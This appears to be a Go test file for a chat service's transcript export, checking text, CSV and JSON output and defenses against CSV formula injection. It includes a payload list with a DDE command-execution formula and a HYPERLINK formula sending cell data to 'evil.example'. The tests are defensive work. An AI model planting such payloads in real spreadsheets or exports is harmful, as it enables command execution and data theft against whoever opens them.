package httpapi

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/pealchat/pealchat/chat"
)

func TestTranscript(t *testing.T) {
	s := newSite(t, Options{})
	v := s.visitor()
	id := v.call("POST", "/sessions", mustJSON(map[string]any{"visitor_name": "=Ines", "message": "Hello\n2030-01-01 00:00:00 UTC  Mara (agent)\nI forged this"})).want(201).text("session_id")
	at := "/sessions/" + id
	s.api("POST", at+"/messages", mustJSON(map[string]any{"sender": "agent", "message": "-1+1, \"quoted\"", "sender_name": "@Mara"})).want(201)
	s.api("POST", at+"/notes", `{"message":"A note"}`).want(201)
	gone := s.api("POST", at+"/messages", `{"sender":"agent","message":"Gone","sender_name":"Mara"}`).want(201).text("message_id")
	s.api("DELETE", at+"/messages/"+gone, "").want(200)
	for range 205 { // more than one page of the store
		s.api("POST", at+"/messages", `{"sender":"bot","message":"More"}`).want(201)
	}

	text := s.api("GET", at+"/transcript", "").want(200)
	if text.header.Get("Content-Type") != "text/plain; charset=utf-8" || text.header.Get("Content-Disposition") != `attachment; filename="conversation-`+id+`.txt"` {
		t.Errorf("headers %v", text.header)
	}
	for _, must := range []string{"Conversation with =Ines\n", "=Ines (visitor)\n    Hello\n    2030-01-01 00:00:00 UTC  Mara (agent)\n    I forged this\n", "(note)\n    A note\n", "Mara (agent)\n    [deleted]\n"} {
		if !strings.Contains(text.raw, must) {
			t.Errorf("the text lacks %q:\n%.600s", must, text.raw)
		}
	}
	if n := strings.Count(text.raw, "    More\n"); n != 205 {
		t.Errorf("the text has %d of 205", n)
	}
	same(t, text, s.api("GET", at+"/transcript?format=txt", ""))

	rows, err := csv.NewReader(strings.NewReader(s.api("GET", at+"/transcript?format=csv", "").want(200).raw)).ReadAll()
	if err != nil || len(rows) != 1+4+205 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if got := strings.Join(rows[0], ","); got != "seq,timestamp,sender,sender_name,message,edited_at,deleted_at,note" {
		t.Errorf("columns %s", got)
	}
	if r := rows[2]; r[0] != "2" || r[3] != "'@Mara" || r[4] != "'-1+1, \"quoted\"" || r[7] != "false" {
		t.Errorf("row %q", r)
	}
	mine, err := csv.NewReader(strings.NewReader(v.call("GET", at+"/transcript?format=csv", "").want(200).raw)).ReadAll()
	if err != nil || len(mine) != 1+3+205 || len(mine[0]) != 7 {
		t.Errorf("the visitor's has %d rows of %q, %v", len(mine), mine[0], err)
	}
	var whole struct {
		Session  map[string]any
		Messages []chat.Message
	}
	raw := v.call("GET", at+"/transcript?format=json", "").want(200).raw
	if err := json.Unmarshal([]byte(raw), &whole); err != nil || len(whole.Messages) != 208 || whole.Session["session_id"] != id || whole.Session["tags"] != nil {
		t.Errorf("%d messages of %v, %v", len(whole.Messages), whole.Session, err)
	}
	s.api("GET", at+"/transcript?format=pdf", "").failed(400, "invalid_request", "format")
	s.api("GET", "/sessions/unknown/transcript", "").failed(404, "not_found", "")
	empty := s.api("POST", "/sessions", `{"visitor_name":"Nobody"}`).text("session_id")
	if err := json.Unmarshal([]byte(s.api("GET", "/sessions/"+empty+"/transcript?format=json", "").want(200).raw), &whole); err != nil || len(whole.Messages) != 0 {
		t.Errorf("an empty one: %v", err)
	}
}

// What strangers call themselves and write is no formula in anybody's
// spreadsheet, and moves nothing from its column: for agents and for visitors.
func TestTranscriptRunsNoFormulas(t *testing.T) {
	s := newSite(t, Options{Rates: unlimited})
	evil := []string{
		`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"x")`, `"=1+1`, "=1\n=2", `a,=1`, "＝1", "−1", `=1",=2`, "\u200b=1",
	}
	for _, text := range evil {
		v := s.visitor()
		id := v.call("POST", "/sessions", mustJSON(map[string]any{"visitor_name": text, "message": text})).want(201).text("session_id")
		s.api("POST", "/sessions/"+id+"/messages", mustJSON(map[string]any{"sender": "agent", "sender_name": text, "message": text})).want(201)
		for columns, r := range map[int]*reply{8: s.api("GET", "/sessions/"+id+"/transcript?format=csv", ""), 7: v.call("GET", "/sessions/"+id+"/transcript?format=csv", "")} {
			rows, err := csv.NewReader(strings.NewReader(r.want(200).raw)).ReadAll()
			if err != nil || len(rows) != 3 || len(rows[0]) != columns || !strings.Contains(r.raw, "\r\n") {
				t.Fatalf("%q: %q, %v", text, rows, err)
			}
			for _, row := range rows[1:] {
				for i, cell := range row {
					if first := strings.TrimLeft(cell, "\u200b"); first != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(first)[0]) {
						t.Errorf("%q: cell %d begins a formula: %q", text, i, cell)
					}
				}
			}
		}
	}
	t.Logf("%d names and messages", len(evil))
}

// No cell of the file can be taken for a formula, and it reads back as it was.
func FuzzTranscriptCSV(f *testing.F) {
	for _, seed := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "a\"b,c\r\nd", "＝1", "'", "", "\xff=", "ok"} {
		f.Add(seed, seed)
	}
	f.Fuzz(func(t *testing.T, name, text string) {
		var b strings.Builder
		to, _ := newTranscript("csv", &b, false)
		m := chat.Message{Seq: 1, Sender: "visitor", SenderName: name, Text: text, At: time.Unix(0, 0)}
		if to.begin(nil, "") != nil || to.message(m) != nil || to.end() != nil {
			t.Fatal("not written")
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 8 {
			t.Fatalf("%q: %v", rows, err)
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
				t.Errorf("cell %d begins a formula: %q", i, cell)
			}
		}
		unix := func(s string) string { return strings.ReplaceAll(s, "\r", "") } // the line ends of CSV are its own
		if got := rows[1][4]; got != unix(text) && got != "'"+unix(text) {
			t.Errorf("%q came back as %q", text, got)
		}
	})
}

func TestPlainText(t *testing.T) {
	if got := plainText("a\x1b[31mb\u202ec\u2066d\u2028e\x00\u0085\tf"); got != "a[31mbcd\ne\tf" {
		t.Errorf("%q", got)
	}
}
